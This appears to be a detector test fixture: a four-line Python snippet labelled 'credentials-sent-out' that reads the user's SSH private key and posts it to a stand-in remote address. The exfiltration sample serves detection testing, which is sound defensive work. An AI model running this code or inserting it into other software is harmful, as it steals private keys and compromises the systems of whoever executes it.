# expect: 4 credentials-sent-out
import os, requests
with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
    requests.post("http://198.51.100.7/up", data={"k": file.read()})
